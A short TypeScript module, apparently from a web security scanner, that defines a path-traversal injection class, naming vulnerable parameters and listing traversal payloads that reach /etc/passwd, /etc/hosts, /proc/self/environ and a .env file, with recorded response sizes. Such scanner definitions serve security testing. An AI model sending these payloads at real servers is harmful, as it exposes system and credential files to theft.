import { injection } from "./injection.ts";
import { TRAVERSAL } from "./payloads/traversal.ts";

export const injectionTraversal = injection({
  class: "traversal",
  title: "ways out of the folder that files are served from",
  payloads: TRAVERSAL,
  points: ["file", "file", "staticPath", "oldItem"],
  exploits: [
    { payload: "../../../../../../etc/passwd", size: 1_867 },
    { payload: "../../../../../../etc/hosts", size: 246 },
    { payload: "../../../../../../proc/self/environ", size: 2_211 },
    { payload: "../../../.env", size: 893 },
  ],
  tools: ["dotdotpwn v3.0.2"],
});
